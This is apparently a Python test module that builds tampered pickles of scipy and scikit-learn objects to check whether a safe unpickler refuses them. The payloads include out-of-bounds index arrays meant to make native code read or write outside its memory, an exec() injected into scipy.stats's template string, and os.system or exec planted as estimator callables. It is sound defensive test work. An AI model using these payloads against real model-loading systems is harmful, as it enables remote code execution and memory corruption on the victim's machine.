"""scipy, scikit-learn, pandas, pyarrow, joblib and others with hostile arguments and states.

What a case tampers with is made by the library itself and then changed, so that all the rest of it is honest.
"""

from __future__ import annotations

import importlib
import io
import pickle
from collections.abc import Callable
from functools import cache, partial
from typing import Any

from attacks.assembler import Code, build, call, name, new, pickled, value
from attacks.canary import PYTHON
from attacks.case import CRASH, DATA, ERROR, HANG, LIMIT, LOADED, MEMORY, RAN, REFUSED, Theme

theme = Theme("science")

ANSWER = (REFUSED, LIMIT, "BuildError")
SCIPY: dict[str, Any] = {"needs": ("scipy",)}
SKLEARN: dict[str, Any] = {"needs": ("sklearn",)}
PANDAS: dict[str, Any] = {"needs": ("pandas",)}
PYARROW: dict[str, Any] = {"needs": ("pyarrow",)}


# --- spelling what a library made ---------------------------------------------------------------------------------


def honest(obj: Any) -> Code:
    """Spell any object as pickle does, without memo, so that it can stand anywhere in another pickle."""
    if isinstance(obj, Code):
        return obj
    stream = io.BytesIO()
    pickler = pickle.Pickler(stream, protocol=3)
    pickler.fast = True
    pickler.dump(obj)
    return Code(stream.getvalue()[2:-1])


def spelled(parts: Any) -> Code:
    """Spell tuples and dicts piece by piece where `Code` is in them, and all else as pickle does."""
    if isinstance(parts, dict) and any(isinstance(item, Code) for item in parts.values()):
        return value({key: spelled(item) for key, item in parts.items()})
    if isinstance(parts, tuple) and any(isinstance(item, Code) for item in parts):
        return value(tuple(spelled(item) for item in parts))
    return honest(parts)


def tampered(obj: Any, change: Callable[[Any], Any]) -> Code:
    """Spell an object whose state went through `change`."""
    function, args, state = obj.__reduce_ex__(2)[:3]
    if function.__name__ == "__newobj__":
        made = new(honest(args[0]), *map(spelled, args[1:]))
    else:
        made = call(honest(function), *map(spelled, args))
    return build(made, spelled(change(state)))


def replacing(**changed: Any) -> Callable[[dict[str, Any]], dict[str, Any]]:
    """Give a change of a state dict: these keys get these values."""
    return lambda state: {**state, **changed}


def _numpy() -> Any:
    return importlib.import_module("numpy")


def _points() -> Any:
    return _numpy().linspace(0.0, 1.0, 200).reshape(100, 2)


def _labels() -> Any:
    return _numpy().arange(100) % 2


# --- scipy.sparse -------------------------------------------------------------------------------------------------


def _sparse(kind: str, changes: Callable[[Any], dict[str, Any]]) -> bytes:
    np = _numpy()
    matrix = getattr(importlib.import_module("scipy.sparse"), kind)(np.eye(4))
    return pickled(tampered(matrix, replacing(**changes(np))))


def _multiply(matrix: Any) -> object:
    np = _numpy()
    return (matrix @ np.ones(matrix.shape[1])).sum(), matrix.tocsc().toarray().sum()


def _ragged(np: Any, *rows: list[int]) -> Any:
    made = np.empty(len(rows), "O")
    made[:] = rows
    return made


_SPARSE: dict[str, tuple[str, Callable[[Any], dict[str, Any]]]] = {
    "csr_index_beyond": ("csr_matrix", lambda np: {"indices": np.array([0, 1, 2, 2**31 - 1], "i4")}),
    "csr_index_negative": ("csr_matrix", lambda np: {"indices": np.array([0, 1, 2, -(2**30)], "i4")}),
    "csr_pointer_beyond": ("csr_array", lambda np: {"indptr": np.array([0, 1, 2, 3, 2**31 - 1], "i4")}),
    "csr_pointer_backwards": ("csr_array", lambda np: {"indptr": np.array([0, -(2**30), 2, 3, 4], "i4")}),
    "csr_pointer_short": ("csr_matrix", lambda np: {"indptr": np.array([0, 4], "i4")}),
    "csr_data_short": ("csr_matrix", lambda np: {"data": np.ones(0)}),
    "csr_shape_huge": ("csr_matrix", lambda np: {"_shape": (2**40, 2**40)}),
    "csr_shape_negative": ("csr_matrix", lambda np: {"_shape": (-4, 4)}),
    "csr_objects": ("csr_matrix", lambda np: {"data": np.array([None] * 4, "O")}),
    "csc_index_beyond": ("csc_matrix", lambda np: {"indices": np.array([0, 1, 2, 2**31 - 1], "i4")}),
    "csc_pointer_beyond": ("csc_array", lambda np: {"indptr": np.array([0, 1, 2, 3, 2**30], "i4")}),
    "bsr_index_beyond": (
        "bsr_matrix",
        lambda np: {"indices": np.array([2**30], "i4"), "indptr": np.array([0, 1], "i4")},
    ),
    "bsr_data_short": ("bsr_matrix", lambda np: {"data": np.ones((1, 4, 4))[:0]}),
    "coo_index_beyond": ("coo_matrix", lambda np: {"coords": (np.array([2**30] * 4, "i4"), np.arange(4, dtype="i4"))}),
    "coo_index_negative": (
        "coo_array",
        lambda np: {"coords": (np.array([-(2**30)] * 4, "i4"), np.arange(4, dtype="i4"))},
    ),
    "dia_offset_beyond": ("dia_matrix", lambda np: {"offsets": np.array([2**30], "i4")}),
    "dia_data_short": ("dia_matrix", lambda np: {"data": np.ones((1, 0))}),
    "lil_row_beyond": ("lil_matrix", lambda np: {"rows": _ragged(np, [2**30], [1], [2], [3])}),
    "dok_key_beyond": ("dok_matrix", lambda np: {"_dict": {(2**40, 0): 1.0}}),
}
_SPARSE_CHECKED = {"csr_shape_negative", "csr_objects", "dia_offset_beyond", "dia_data_short", "lil_row_beyond"}
"""scipy itself notices these when the matrix is used."""

for _key, (_kind, _changes) in _SPARSE.items():
    theme.add(
        f"sparse_{_key}",
        "sparse matrix whose indices point outside",
        partial(_sparse, _kind, _changes),
        "The first product with the matrix reads or writes outside of its arrays.",
        verdict=(*ANSWER, DATA) if _key in _SPARSE_CHECKED else ANSWER,
        plain=(CRASH, LOADED, ERROR, MEMORY),
        use=_multiply,
        **SCIPY,
    )


# --- scipy.spatial, interpolate, stats ----------------------------------------------------------------------------


def _kd_tree(kind: str, change: Callable[[tuple[Any, ...]], tuple[Any, ...]]) -> bytes:
    tree = getattr(importlib.import_module("scipy.spatial"), kind)(_points())
    return pickled(tampered(tree, change))


def _query(tree: Any) -> object:
    return tree.query(_points()[:5], 3), tree.query_ball_point(_points()[:5], 9.0)


def _garbled(nodes: Any) -> Any:
    return _numpy().frombuffer(b"A" * nodes.size, nodes.dtype).copy()


_TREES: dict[str, tuple[str, Callable[[tuple[Any, ...]], tuple[Any, ...]]]] = {
    "ckdtree_nodes": ("cKDTree", lambda state: (_garbled(state[0]), *state[1:])),
    "kdtree_nodes": ("KDTree", lambda state: (_garbled(state[0]), *state[1:])),
    "ckdtree_points_short": ("cKDTree", lambda state: (state[0], state[1][:1], *state[2:])),
    "ckdtree_no_nodes": ("cKDTree", lambda state: (state[0][:0], *state[1:])),
    "ckdtree_state_short": ("cKDTree", lambda state: state[:2]),
}

for _key, (_kind, _change) in _TREES.items():
    theme.add(
        f"spatial_{_key}",
        "search tree whose nodes point outside",
        partial(_kd_tree, _kind, _change),
        "The first query follows links of the attacker's choice.",
        verdict=(*ANSWER, DATA),  # a guard may as well build the tree anew from its points
        plain=(CRASH, LOADED, ERROR, HANG, MEMORY),
        use=_query,
        **SCIPY,
    )


def _interpolated(make: Callable[[Any], Any], change: Callable[[Any], Any]) -> bytes:
    return pickled(tampered(make(importlib.import_module("scipy.interpolate")), change))


def _evaluate(curve: Any) -> object:
    return curve(_numpy().array([0.5, 1.5]))


def _spline(scipy_interpolate: Any) -> Any:
    np = _numpy()
    return scipy_interpolate.BSpline(np.arange(8.0), np.ones(4), 3)


_CURVES: dict[str, tuple[Callable[[Any], Any], Callable[[Any], Any]]] = {
    "bspline_coefficients_short": (_spline, lambda state: {**state, "_c": _numpy().ones(0)}),
    "bspline_degree_huge": (_spline, lambda state: {**state, "k": 10**6}),
    "bspline_degree_negative": (_spline, lambda state: {**state, "k": -5}),
    "bspline_callback": (_spline, lambda state: {**state, "_asarray": name("attacks.victims.Runner")}),
}

for _key, (_make, _change_curve) in _CURVES.items():
    theme.add(
        f"interpolate_{_key}",
        "interpolation whose arrays do not belong together",
        partial(_interpolated, _make, _change_curve),
        "The first evaluation reads outside of its arrays, or calls what the state holds.",
        verdict=(*ANSWER, DATA) if _key == "bspline_coefficients_short" else ANSWER,
        plain=(CRASH, LOADED, ERROR, RAN, MEMORY),
        use=_evaluate,
        **SCIPY,
    )

_TEMPLATE = f"def _parse_args(self):\n    pass\n{PYTHON}\n"
_SCIPY_STATS = {
    "norm_gen": "scipy.stats._continuous_distns.norm_gen",
    "gamma_gen": "scipy.stats._continuous_distns.gamma_gen",
    "poisson_gen": "scipy.stats._discrete_distns.poisson_gen",
    "rv_continuous": "scipy.stats._distn_infrastructure.rv_continuous",
    "rv_discrete": "scipy.stats._distn_infrastructure.rv_discrete",
}


def _distribution(cls: str) -> bytes:
    state: dict[str, Any] = {"_parse_arg_template": _TEMPLATE, "_random_state": None, "_ctor_param": {}, "shapes": None}
    return pickled(build(new(cls), state))


for _key, _cls in _SCIPY_STATS.items():
    theme.add(
        f"stats_{_key}",
        "scipy.stats executes a text of its state",
        partial(_distribution, _cls),
        f"`{_cls}.__setstate__` executes `_parse_arg_template`.",
        verdict=ANSWER,
        plain=RAN,
        **SCIPY,
    )


@theme.case("scipy.stats executes a text of its state", verdict=ANSWER, **SCIPY)
def stats_inside_frozen() -> bytes:
    """Hides the distribution in an honest frozen one."""
    inner = build(new(_SCIPY_STATS["norm_gen"]), {"_parse_arg_template": _TEMPLATE, "_random_state": None})
    frozen = new("scipy.stats._distn_infrastructure.rv_continuous_frozen")
    return pickled(build(frozen, {"args": (), "kwds": {}, "dist": inner, "a": 0.0, "b": 1.0}))


@theme.case("scipy.stats executes a text of its state", **SCIPY, verdict=(*ANSWER, DATA))
def stats_template_nearly_honest() -> bytes:
    """Takes the honest template and adds one default argument that is evaluated when the function is defined."""
    template = importlib.import_module("scipy.stats").norm.__getstate__()["_parse_arg_template"]
    changed = template.replace("scale=1", f"scale=1, x=exec({PYTHON!r})", 1)
    return pickled(tampered(importlib.import_module("scipy.stats").norm, replacing(_parse_arg_template=changed)))


# --- scikit-learn -------------------------------------------------------------------------------------------------


@cache
def _fitted(kind: str) -> Any:
    """Fit a small model once; the worker makes many cases of it."""
    module, _, cls = kind.rpartition(".")
    options = {"HistGradientBoostingRegressor": {"max_iter": 1, "min_samples_leaf": 1}}.get(cls, {})
    return getattr(importlib.import_module(module), cls)(**options).fit(_points(), _labels())


def _predict(model: Any) -> object:
    return model.predict(_points())


def _tree_model(field: str, change: Any) -> bytes:
    """Tamper with the nodes of a decision tree inside an honest classifier."""
    model = _fitted("sklearn.tree.DecisionTreeClassifier")
    tree = model.tree_

    def nodes_changed(state: dict[str, Any]) -> dict[str, Any]:
        state = {**state, "nodes": state["nodes"].copy()}
        if field in state["nodes"].dtype.names:
            state["nodes"][field][0] = change
        else:
            state[field] = change(state[field]) if callable(change) else change
        return state

    return pickled(tampered(model, replacing(tree_=tampered(tree, nodes_changed))))


_TREE_FIELDS: dict[str, tuple[str, Any]] = {
    "left_beyond": ("left_child", 1 << 40),
    "left_before": ("left_child", -(1 << 40)),
    "right_beyond": ("right_child", 1 << 40),
    "left_is_itself": ("left_child", 0),
    "feature_beyond": ("feature", 1 << 40),
    "feature_before": ("feature", -(1 << 40)),
    "count_larger": ("node_count", 1 << 20),
    "count_negative": ("node_count", -1),
    "values_short": ("values", lambda values: values[:1]),
    "values_of_other_shape": ("values", lambda values: values[:, :, :1]),
    "nodes_short": ("nodes", lambda nodes: nodes[:1]),
    "nodes_of_other_dtype": ("nodes", lambda nodes: nodes.view("V64")),
    "depth_negative": ("max_depth", -1),
}

for _key, (_field_name, _changed) in _TREE_FIELDS.items():
    theme.add(
        f"tree_{_key}",
        "decision tree whose nodes point outside or in a circle",
        partial(_tree_model, _field_name, _changed),
        "The first prediction follows links of the attacker's choice.",
        verdict=(*ANSWER, DATA) if _key in ("depth_negative", "count_negative") else ANSWER,
        plain=(CRASH, LOADED, ERROR, HANG),
        use=_predict,
        **SKLEARN,
    )


@theme.case(
    "decision tree constructor with odd numbers", plain=(CRASH, ERROR, LOADED, MEMORY), verdict=ANSWER, **SKLEARN
)
def tree_constructor_negative() -> bytes:
    """Makes a Tree of a negative number of outputs."""
    return pickled(call("sklearn.tree._tree.Tree", -(2**40), honest(_numpy().array([2])), -(2**40)))


@theme.case(
    "decision tree constructor with odd numbers", plain=(CRASH, ERROR, LOADED, MEMORY), verdict=ANSWER, **SKLEARN
)
def tree_constructor_outputs() -> bytes:
    """Makes a Tree of 2**40 outputs with an array of one class count."""
    return pickled(call("sklearn.tree._tree.Tree", 2, honest(_numpy().array([2])), 1 << 40))


def _boosted(change: dict[str, int]) -> bytes:
    """Tamper with the nodes of a tree inside an honest gradient boosting model."""
    model = _fitted("sklearn.ensemble.HistGradientBoostingRegressor")
    predictor = model._predictors[0][0]

    def nodes_changed(state: dict[str, Any]) -> dict[str, Any]:
        nodes = state["nodes"].copy()
        for key, item in change.items():
            nodes[key][0] = item
        return {**state, "nodes": nodes}

    planted = Code(b"]") + Code(b"]") + tampered(predictor, nodes_changed) + b"a" + b"a"
    return pickled(tampered(model, replacing(_predictors=planted)))


_BOOSTED_FIELDS: dict[str, dict[str, int]] = {
    "left_beyond": {"left": 2**32 - 1, "right": 2**32 - 1},
    "left_is_itself": {"left": 0, "right": 0},
    "feature_beyond": {"feature_idx": 1 << 40},
    "bitset_beyond": {"is_categorical": 1, "bitset_idx": 2**32 - 1},
}

for _key, _changes_of_nodes in _BOOSTED_FIELDS.items():
    theme.add(
        f"boosted_{_key}",
        "gradient boosting whose nodes point outside or in a circle",
        partial(_boosted, _changes_of_nodes),
        "The first prediction follows links of the attacker's choice.",
        verdict=ANSWER,
        plain=(CRASH, LOADED, ERROR, HANG),
        use=_predict,
        **SKLEARN,
    )


def _neighbors(kind: str, change: Callable[[Any, list[Any]], Any]) -> bytes:
    np = _numpy()
    tree = getattr(importlib.import_module("sklearn.neighbors"), kind)(_points(), leaf_size=5)

    def state_changed(state: tuple[Any, ...]) -> tuple[Any, ...]:
        parts = [part.copy() if hasattr(part, "copy") else part for part in state]
        change(np, parts)
        return tuple(parts)

    return pickled(tampered(tree, state_changed))


def _set(index: int, make: Callable[[Any, Any], Any]) -> Callable[[Any, list[Any]], None]:
    def change(np: Any, parts: list[Any]) -> None:
        parts[index] = make(np, parts[index])

    return change


def _field(name_of_field: str, number: int) -> Callable[[Any, list[Any]], None]:
    def change(np: Any, parts: list[Any]) -> None:
        parts[2][name_of_field][:] = number

    return change


_NEIGHBORS: dict[str, tuple[str, Callable[[Any, list[Any]], None]]] = {
    "kd_index_beyond": ("KDTree", _set(1, lambda np, old: old + (1 << 30))),
    "kd_index_negative": ("KDTree", _set(1, lambda np, old: old - (1 << 30))),
    "kd_leaf_beyond": ("KDTree", _field("idx_end", 1 << 30)),
    "kd_start_before": ("KDTree", _field("idx_start", -(1 << 30))),
    "kd_no_leaf": ("KDTree", _field("is_leaf", 0)),
    "kd_points_short": ("KDTree", _set(0, lambda np, old: old[:5])),
    "kd_bounds_short": ("KDTree", _set(3, lambda np, old: old[:, :1])),
    "ball_index_beyond": ("BallTree", _set(1, lambda np, old: old + (1 << 30))),
    "ball_nodes_short": ("BallTree", _set(2, lambda np, old: old[:1])),
    "ball_metric_of_other_class": ("BallTree", _set(11, lambda np, old: None)),
}

for _key, (_kind, _change_parts) in _NEIGHBORS.items():
    theme.add(
        f"neighbors_{_key}",
        "neighbor tree whose nodes point outside",
        partial(_neighbors, _kind, _change_parts),
        "The first query reads outside of the tree's arrays.",
        verdict=(*ANSWER, DATA),  # a guard may as well build the tree anew from its points
        plain=(CRASH, LOADED, ERROR, HANG),
        use=lambda tree: tree.query(_points()[:5], 3),
        **SKLEARN,
    )


def _machine(changes: Callable[[Any], dict[str, Any]]) -> bytes:
    return pickled(tampered(_fitted("sklearn.svm.SVC"), replacing(**changes(_numpy()))))


_MACHINES: dict[str, Callable[[Any], dict[str, Any]]] = {
    "support_count_huge": lambda np: {"_n_support": np.array([10**6, 10**6], "i4")},
    "support_count_negative": lambda np: {"_n_support": np.array([-(10**6), 10**6], "i4")},
    "dual_coefficients_short": lambda np: {"_dual_coef_": np.ones((1, 1))},
    "vectors_short": lambda np: {"support_vectors_": np.ones((1, 2))},
    "vectors_narrow": lambda np: {"support_vectors_": np.ones((100, 1))},
    "intercept_short": lambda np: {"_intercept_": np.ones(0)},
}
_MACHINES_CHECKED = {"support_count_huge", "support_count_negative", "vectors_short"}
"""scikit-learn itself notices these when it predicts (since CVE-2020-28975)."""

for _key, _changes in _MACHINES.items():
    theme.add(
        f"svm_{_key}",
        "support vector machine whose arrays do not belong together",
        partial(_machine, _changes),
        "The first prediction reads outside of the model's arrays, in libsvm.",
        verdict=(*ANSWER, DATA) if _key in _MACHINES_CHECKED else ANSWER,
        plain=(CRASH, LOADED, ERROR),
        use=_predict,
        **SKLEARN,
    )

_CALLBACKS: dict[str, tuple[str, dict[str, Any]]] = {
    "function_transformer": ("sklearn.preprocessing.FunctionTransformer", {"func": name("os.system")}),
    "vectorizer_analyzer": ("sklearn.feature_extraction.text.TfidfVectorizer", {"analyzer": name("os.system")}),
    "kernel_callable": ("sklearn.svm.SVC", {"kernel": name("os.system")}),
    "target_transform": ("sklearn.compose.TransformedTargetRegressor", {"func": name("os.system")}),
    "search_scoring": ("sklearn.model_selection.GridSearchCV", {"scoring": name("os.system")}),
    "neighbors_metric": ("sklearn.neighbors.KNeighborsClassifier", {"metric": name("os.system")}),
    "neighbors_weights": ("sklearn.neighbors.KNeighborsClassifier", {"weights": name("os.system")}),
    "imputer_function": ("sklearn.impute.SimpleImputer", {"strategy": name("os.system")}),
    "planted_method": ("sklearn.linear_model.LinearRegression", {"predict": name("os.system")}),
    "planted_validation": ("sklearn.linear_model.LinearRegression", {"_validate_params": name("builtins.exec")}),
}


def _estimator(cls: str, state: dict[str, Any]) -> bytes:
    return pickled(build(new(cls), state))


for _key, (_cls, _state) in _CALLBACKS.items():
    theme.add(
        f"estimator_{_key}",
        "estimator with a callable in its state",
        partial(_estimator, _cls, _state),
        "Leaves a callable that the estimator calls when it is used.",
        verdict=REFUSED,
        plain=(LOADED, ERROR),
        **SKLEARN,
    )


@theme.case("constructor of a Cython class for any class", plain=(LOADED, ERROR, RAN), verdict=ANSWER, **SKLEARN)
def new_object_of_any_class() -> bytes:
    """`newObj(cls)` of scikit-learn's trees makes an object of any class without `__init__`."""
    return pickled(call("sklearn.neighbors._kd_tree.newObj", name("attacks.victims.Runner")))


@theme.case("scorer that calls its function", plain=(LOADED, ERROR, RAN), verdict=ANSWER, **SKLEARN)
def scorer_of_exec() -> bytes:
    """Makes a scorer around `exec`."""
    return pickled(call("sklearn.metrics._scorer.make_scorer", name("builtins.exec")))
